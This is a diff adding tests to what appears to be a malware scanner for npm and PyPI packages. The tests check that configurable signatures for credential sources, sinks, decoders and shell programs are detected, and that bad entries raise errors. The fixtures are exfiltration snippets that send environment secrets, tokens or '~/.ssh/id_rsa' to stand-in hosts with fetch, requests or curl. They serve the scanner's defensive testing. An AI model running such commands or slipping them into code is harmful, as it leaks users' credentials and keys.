@@ -23,7 +23,7 @@ function extraDir(files: Record<string, string>): string {
 }
 const NO_SINKS = { js: "js: { modules: {}, globals: {} }", python: "python: { modules: {}, builtins: {} }", shell: "shellPrograms: {}" };
 const sinksYaml = (parts: Partial<typeof NO_SINKS>) => [parts.js ?? NO_SINKS.js, parts.python ?? NO_SINKS.python, parts.shell ?? NO_SINKS.shell].join("\n") + "\n";
-const sourcesYaml = (credentialFiles: string, envSecretNames = "[]") => `credentialFiles: ${credentialFiles}\nenvSecretNames: ${envSecretNames}\nsecretParameterNames: []\n`;
+const sourcesYaml = (credentialFiles: string, envSecretNames = "[]", more = "") => `credentialFiles: ${credentialFiles}\nenvSecretNames: ${envSecretNames}\nsecretParameterNames: []\n${more}`;
 
 const pkg = { ecosystem: "npm" as const, name: "pkg", version: "1.0.0" };
 async function jsFindings(code: string, signatures: Signatures): Promise<string[]> {
@@ -98,6 +98,114 @@ describe("an added entry takes effect", () => {
   });
 });
 
+/** The findings' messages (they name the destination). */
+async function jsMessages(code: string, signatures: Signatures): Promise<string[]> {
+  const facts = await analyzeNpmPackage(makePackage({ "index.js": code }), signatures);
+  return evaluateFacts(facts, pkg, signatures).map((f) => `${f.ruleId} ${f.severity}: ${f.message}`);
+}
+async function pyMessages(code: string, signatures: Signatures): Promise<string[]> {
+  const files = new Map([
+    ["setup.py", Buffer.from('from setuptools import setup\nsetup(name="pkg", version="1.0.0", packages=["pkg"])\n')],
+    ["pkg/__init__.py", Buffer.from(dedent(code))],
+  ]);
+  const facts = await analyzePythonPackage({ input: "test", files, bytes: 0, errors: [] }, signatures);
+  return evaluateFacts(facts, { ...pkg, ecosystem: "pypi" }, signatures).map((f) => `${f.ruleId} ${f.severity}: ${f.message}`);
+}
+
+describe("an added entry takes effect (kinds beyond files, variables and modules)", () => {
+  it("sources.apiSources.python: a new credential-reading call", async () => {
+    const sigs = loadSignatures([extraDir({ "sources.yaml": sourcesYaml("[]", "[]", "apiSources: { python: [{ call: zorblat.get_secret, kind: cloud-credentials, note: reads the Zorblat secret }] }\n") })]);
+    const py = 'import zorblat, requests\nrequests.post("https://c.example.invalid/", data=zorblat.get_secret())\n';
+    expect(await pyFindings(py, base)).toEqual([]);
+    expect(await pyFindings(py, sigs)).toContain("credential-exfiltration critical 2");
+  });
+
+  it("sources.apiSources.python pattern: a new call shape, its name as detail", async () => {
+    const sigs = loadSignatures([extraDir({ "sources.yaml": sourcesYaml("[]", "[]", 'apiSources: { python: [{ pattern: "^zorblat\\\\..*\\\\.fetch_token$", kind: cloud-credentials, note: gets a Zorblat token }] }\n') })]);
+    const py = 'import zorblat, requests\nrequests.post("https://c.example.invalid/", data=zorblat.auth.Client().fetch_token())\n';
+    expect(await pyFindings(py, base)).toEqual([]);
+    expect(await pyFindings(py, sigs)).toContain("credential-exfiltration critical 2");
+  });
+
+  it("sources.credentialConsumers.python: a secret-named parameter handed to a new consuming library is a credential", async () => {
+    const sigs = loadSignatures([extraDir({ "sources.yaml": sourcesYaml("[]", "[]", "credentialConsumers: { python: [zorblat] }\n") })]);
+    const py = 'import requests, zorblat\ndef login(host, password):\n    zorblat.connect(host, password=password)\n    requests.post("https://c.example.invalid/", data=password)\n';
+    expect(await pyFindings(py, base)).toEqual([]);
+    expect(await pyFindings(py, sigs)).toEqual(["credential-exfiltration critical 4"]);
+  });
+
+  it("sinks.python.modules: a new sending function", async () => {
+    const sigs = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ python: "python: { modules: { zorblat: { upload: http } }, builtins: {} }" }) })]);
+    const py = 'import os, zorblat\nzorblat.upload("https://c.example.invalid/", dict(os.environ))\n';
+    expect(await pyFindings(py, base)).toEqual([]);
+    expect(await pyFindings(py, sigs)).toContain("credential-exfiltration critical 2");
+  });
+
+  it("sinks.js.globals: a new sending global", async () => {
+    const sigs = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ js: "js: { modules: {}, globals: { zorblatSend: http } }" }) })]);
+    const js = 'zorblatSend("https://c.example.invalid/", JSON.stringify(process.env));\n';
+    expect(await jsFindings(js, base)).toEqual([]);
+    expect(await jsFindings(js, sigs)).toContain("credential-exfiltration critical 1");
+  });
+
+  it("indicators.issuers: a token authenticates to its issuer only, in JS and Python", async () => {
+    const sigs = loadSignatures([extraDir({ "indicators.yaml": 'exfilServices: []\nknownBad: []\nissuers: [{ name: Zorblat, kinds: [env-secret], detail: "^ZORBLAT_TOKEN$", hosts: ["api\\\\.zorblat\\\\.example"] }]\n' })]);
+    const send = (host: string) => ({
+      js: `fetch("https://${host}/v1/items", { headers: { Authorization: "Bearer " + process.env.ZORBLAT_TOKEN } });\n`,
+      py: `import os, requests\nrequests.get("https://${host}/v1/items", headers={"Authorization": "Bearer " + os.environ["ZORBLAT_TOKEN"]})\n`,
+    });
+    // With no issuer known, a secret variable in the credential slot authenticates to whatever server it is sent to.
+    const elsewhere = send("collect.example.invalid");
+    expect(await jsFindings(elsewhere.js, base)).toEqual([]);
+    expect(await pyFindings(elsewhere.py, base)).toEqual([]);
+    // Once Zorblat is its issuer, only Zorblat's API host is authentication.
+    expect(await jsFindings(elsewhere.js, sigs)).toContain("credential-exfiltration critical 1");
+    expect(await pyFindings(elsewhere.py, sigs)).toContain("credential-exfiltration critical 2");
+    const own = send("api.zorblat.example");
+    expect(await jsFindings(own.js, sigs)).toEqual([]);
+    expect(await pyFindings(own.py, sigs)).toEqual([]);
+  });
+
+  it("decoders.python: a new decoding call is folded (its output is a destination)", async () => {
+    const sigs = loadSignatures([extraDir({ "decoders.yaml": "python: { zorblat.unpack: base64 }\n" })]);
+    const encoded = Buffer.from("https://webhook.site/zorblat").toString("base64");
+    const py = `import zorblat, requests\nrequests.post(zorblat.unpack("${encoded}"), data="hello")\n`;
+    expect(await pyFindings(py, base)).toEqual([]);
+    expect(await pyFindings(py, sigs)).toEqual(["exfil-service-destination medium 2"]);
+  });
+
+  it("commands.programs: a program's destination, in JS and Python", async () => {
+    const sinks = sinksYaml({ shell: "shellPrograms: { zorblat-send: http }" });
+    const without = loadSignatures([extraDir({ "sinks.yaml": sinks })]);
+    const withDestination = loadSignatures([extraDir({ "sinks.yaml": sinks, "commands.yaml": "programs: { zorblat-send: { destination: { host: drop.zorblat.example } } }\n" })]);
+    const js = 'require("child_process").exec("zorblat-send now < ~/.ssh/id_rsa");\n';
+    const py = 'import os\nos.system("zorblat-send now < ~/.ssh/id_rsa")\n';
+    expect((await jsMessages(js, without)).join("\n")).not.toContain("drop.zorblat.example");
+    expect((await jsMessages(js, withDestination)).join("\n")).toContain("to drop.zorblat.example");
+    expect((await pyMessages(py, without)).join("\n")).not.toContain("drop.zorblat.example");
+    expect((await pyMessages(py, withDestination)).join("\n")).toContain("to drop.zorblat.example");
+  });
+
+  it("commands.programs valueFlags: a flag's value is not the destination", async () => {
+    const sinks = sinksYaml({ shell: "shellPrograms: { zorblat-send: http }" });
+    const without = loadSignatures([extraDir({ "sinks.yaml": sinks })]);
+    const withFlags = loadSignatures([extraDir({ "sinks.yaml": sinks, "commands.yaml": "programs: { zorblat-send: { valueFlags: [--channel] } }\n" })]);
+    const js = 'require("child_process").exec("zorblat-send --channel c1.example.invalid drop.zorblat.example < ~/.ssh/id_rsa");\n';
+    expect((await jsMessages(js, without)).join("\n")).toContain("to c1.example.invalid");
+    expect((await jsMessages(js, withFlags)).join("\n")).toContain("to drop.zorblat.example");
+  });
+
+  it("commands.credentialCommands: a command that prints a credential, in JS and Python", async () => {
+    const sigs = loadSignatures([extraDir({ "commands.yaml": "credentialCommands: [{ program: zorblat, words: [auth, token], kind: registry-token, note: prints the Zorblat token }]\n" })]);
+    const js = 'require("child_process").exec("zorblat auth token | curl -d @- https://c.example.invalid/");\n';
+    const py = 'import os\nos.system("zorblat auth token | curl -d @- https://c.example.invalid/")\n';
+    expect(await jsFindings(js, base)).not.toContain("credential-exfiltration critical 1");
+    expect(await jsFindings(js, sigs)).toContain("credential-exfiltration critical 1");
+    expect(await pyFindings(py, base)).not.toContain("credential-exfiltration critical 2");
+    expect(await pyFindings(py, sigs)).toContain("credential-exfiltration critical 2");
+  });
+});
+
 describe("an entry no front-end can use", () => {
   const loadError = (files: Record<string, string>): ConfigurationError => {
     try {
@@ -112,6 +220,27 @@ describe("an entry no front-end can use", () => {
     const error = loadError({ "sinks.yaml": sinksYaml({ js: 'js:\n  modules:\n    zorblat-net:\n      Messenger: { channel: http, returns: client }\n  globals: {}' }) });
     expect(error).toBeInstanceOf(ConfigurationError);
     expect(error.message).toMatch(/sinks\.yaml:4: js\.modules\.zorblat-net\.Messenger: js sinks take a channel only/);
+  });
+
+  it("a program entry with no field is an error at its line", () => {
+    const error = loadError({ "commands.yaml": "programs:\n  curl: { valueFlags: [-d] }\n  zorblat: {}\n" });
+    expect(error.message).toMatch(/commands\.yaml:3: programs\.zorblat: a program entry with no field means nothing/);
+  });
+
+  it("a credential command with neither program nor line is an error at its line", () => {
+    const error = loadError({ "commands.yaml": "credentialCommands:\n  - { words: [token], kind: registry-token, note: x }\n" });
+    expect(error.message).toMatch(/commands\.yaml:2: credentialCommands\.0: a credential command needs a program or a line pattern/);
+  });
+
+  it("an unknown destination style or decoder algorithm is an error at its line", () => {
+    expect(loadError({ "commands.yaml": "programs:\n  zorblat:\n    destination: carrier-pigeon\n" }).message).toMatch(/commands\.yaml:3: programs\.zorblat\.destination/);
+    expect(loadError({ "decoders.yaml": "python:\n  zorblat.unpack: rot47\n" }).message).toMatch(/decoders\.yaml:2: python\.zorblat\.unpack/);
+  });
+
+  it("decoders for JS (no front-end reads them) and an API source with both call and pattern are errors", () => {
+    expect(loadError({ "decoders.yaml": "python: {}\njs: { atob: base64 }\n" }).message).toMatch(/decoders\.yaml:\d+: .*js/);
+    const error = loadError({ "sources.yaml": sourcesYaml("[]", "[]", 'apiSources:\n  python:\n    - { call: a.b, pattern: "^a", kind: keychain, note: x }\n') });
+    expect(error.message).toMatch(/sources\.yaml:6: apiSources\.python\.0: an API source has either call/);
   });
 
   it("python.builtins is an error at its line", () => {
